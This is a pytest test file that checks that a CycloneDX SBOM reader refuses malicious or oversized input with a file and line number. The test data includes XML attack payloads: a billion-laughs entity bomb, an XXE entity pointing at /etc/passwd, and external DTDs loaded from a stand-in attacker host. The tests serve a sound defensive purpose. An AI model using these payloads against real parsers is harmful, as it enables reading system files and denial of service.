"""CycloneDX that means harm, or is merely enormous, is refused in bounded time with file and line."""

from __future__ import annotations

import json

import pytest

from sovlint.documents import MAX_DEPTH
from sovlint.frontends.saas import cyclonedx_xml
from sovlint.frontends.saas.cyclonedx_file import MAX_SERVICES
from sovlint.report.messages import say
from tests.frontends.saas.test_cyclonedx import bom, failures, reading

OPEN = '<bom xmlns="http://cyclonedx.org/schema/bom/1.6">'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE bom [<!ENTITY l0 "lol">{LAUGHS}]>',
        '<!DOCTYPE bom [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE bom SYSTEM "http://attacker.test/x.dtd">',
        '<!DOCTYPE bom [<!ENTITY % x SYSTEM "http://attacker.test/x.dtd"> %x;]>',
        "<!DOCTYPE bom>",
    ],
)
def test_no_entity_is_ever_declared(doctype: str) -> None:
    text = f'<?xml version="1.0"?>\n{doctype}\n{OPEN}<services><service><name>&l9;&x;</name></service></services></bom>'
    found = reading(text, "bom.xml")
    ((line, said),) = failures(found)
    assert line == 2
    assert "a document type declaration" in said
    assert found.resources == ()


@pytest.mark.parametrize(
    "text", ["&undeclared;", "</service>", "<a", "\x01", '<a b="1" b="2"/>']
)
def test_what_is_not_well_formed(text: str) -> None:
    found = reading(
        f"{OPEN}\n<services><service>\n<name>{text}</name></service></services></bom>",
        "bom.xml",
    )
    ((line, said),) = failures(found)
    assert line == 3
    assert said.startswith("not a readable CycloneDX document: ")


def test_depth() -> None:
    deep = "<services><service><name>a</name>" * MAX_DEPTH
    ((_, said),) = failures(reading(f"{OPEN}{deep}", "bom.xml"))
    assert f"nested deeper than {MAX_DEPTH} levels" in said
    for levels in (MAX_DEPTH, 100_000):
        text = (
            '{"bomFormat": "CycloneDX",\n"services": '
            + '[{"name": "a", "services": ' * levels
        )
        text += "[]" + "}]" * levels + "}"
        ((_, said),) = failures(reading(text))
        assert "nested" in said


def test_other_parts_may_be_as_large_as_they_like(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cyclonedx_xml, "MAX_ELEMENTS", 10)
    many = "<component/>" * 1000
    text = f"{OPEN}<components>{many}</components><services><service><name>a</name></service></services></bom>"
    assert len(reading(text, "bom.xml").resources) == 1
    ((line, said),) = failures(
        reading(text.replace("<name>a", "<name/>" * 20 + "<name>a"), "bom.xml")
    )
    assert (line, "more than 10 elements" in said) == (1, True)


def test_one_line_of_megabytes() -> None:
    many = [{"type": "library", "name": "x" * 50}] * 100_000
    text = json.dumps(
        {
            "bomFormat": "CycloneDX",
            "components": many,
            "specVersion": "1.6",
            "services": [{"nam": "a"}],
        }
    )
    found = failures(reading(text))
    assert {line for line, _ in found} == {1}
    assert len(found) == 2


def test_more_services_than_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sovlint.frontends.saas.cyclonedx_file.MAX_SERVICES", 3)
    assert MAX_SERVICES > 3
    found = reading(bom(*({"name": f"s{number}"} for number in range(5))))
    assert len(found.resources) == 3
    ((line, said),) = failures(found)
    assert (line, said.startswith("more than 3 services")) == (15, True)


@pytest.mark.parametrize(
    "services",
    [
        "[null]",
        '"x"',
        "[[]]",
        '{"name": "a"}',
        '[{"name": null}]',
        '[{"name": "a", "data": [7, {"flow": []}]}]',
    ],
)
def test_wrong_types_are_told_and_nothing_breaks(services: str) -> None:
    found = reading(
        f'{{"bomFormat": "CycloneDX", "specVersion": 1.6,\n"services": {services}}}'
    )
    assert found.failures
    assert all(each.line == 2 for each in found.failures)


@pytest.mark.parametrize(
    "text",
    [
        '{"bomFormat": "CycloneDX", "services": [{"name": ',
        '{"bomFormat": "CycloneDX" "services": 1}',
    ],
)
def test_broken_json(text: str) -> None:
    (failure,) = reading(text).failures
    assert (failure.note.key, failure.line) == ("saas.bom-unreadable", 1)


def test_secrets_of_addresses_stay_out_of_what_is_said() -> None:
    found = reading(bom({"name": "a", "endpoints": "https://user:hunter2@x.test"}))
    assert all("hunter2" not in say(each.note, "en") for each in found.failures)


@pytest.mark.parametrize("path", ["bom.json", "bom.xml"])
def test_another_encoding_is_refused_and_never_passed_over(path: str) -> None:
    text = bom() if path == "bom.json" else f"{OPEN}<services/></bom>"
    assert len(failures(reading(text.encode("utf-16"), path))) == 1


def test_a_document_without_its_version_is_read() -> None:
    found = reading('{"bomFormat": "CycloneDX", "services": [{"name": "a"}]}')
    assert [each.address for each in found.resources] == ["saas:a"]
    assert "doesn't say its version" in say(found.remarks[0].note, "en")
